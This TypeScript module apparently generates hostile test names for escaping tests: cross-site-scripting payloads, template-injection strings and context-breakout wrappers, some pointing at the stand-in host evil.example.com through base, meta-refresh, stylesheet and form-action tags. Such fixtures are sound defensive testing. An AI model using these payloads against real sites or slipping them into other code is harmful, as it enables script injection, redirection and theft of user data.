import { hostileTexts } from './hostile-text.ts'

/** What makes a browser do something, wherever text is taken for something else. `owned` is what it would do. */
const scripts = [
  '<script>owned()</script>',
  '<img src=x onerror=owned()>',
  '<svg onload=owned()>',
  '<svg><animate onbegin=owned() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.owned()</script>">',
  '<details open ontoggle=owned()>',
  '<math><mi xlink:href="javascript:owned()">x</mi></math>',
  '<a href="javascript:owned()">x</a>',
  '<base href=https://evil.example.com/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example.com/">',
  '<style>@import url(https://evil.example.com/x)</style>',
  '<link rel=stylesheet href=https://evil.example.com/x>',
  '<form action=https://evil.example.com/><input autofocus onfocus=owned()>',
  '<template><script>owned()</script></template>',
  '{{constructor.constructor("owned()")()}}',
  '$' + '{owned()}',
  'javascript:owned()',
  'data:text/html,<script>owned()</script>',
] as const

/** How an attacker gets out of where a text is put. */
const waysOut: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `" onmouseover="owned()" x="${text}`,
  (text) => `</td></tr></table>${text}`,
  (text) => `</title></textarea></style></script>${text}`,
  (text) => `--><!-- -->${text}`,
  (text) => `]]>${text}`,
  (text) => `\\"-owned()-"${text}`,
  (text) => `&lt;${text}&#x3c;script&#x3e;`,
  (text) => `\u202e${text}`,
  (text) => text.replaceAll('<', '\u00ab<'),
]

/** So many texts, each another. */
export function hostileNames(count: number): string[] {
  const texts = [...scripts, ...Object.values(hostileTexts)]
  return Array.from({ length: count }, (_, number) => {
    const text = texts[number % texts.length] ?? ''
    const out = waysOut[Math.floor(number / texts.length) % waysOut.length] ?? String
    return `${out(text)} ${number}`
  })
}
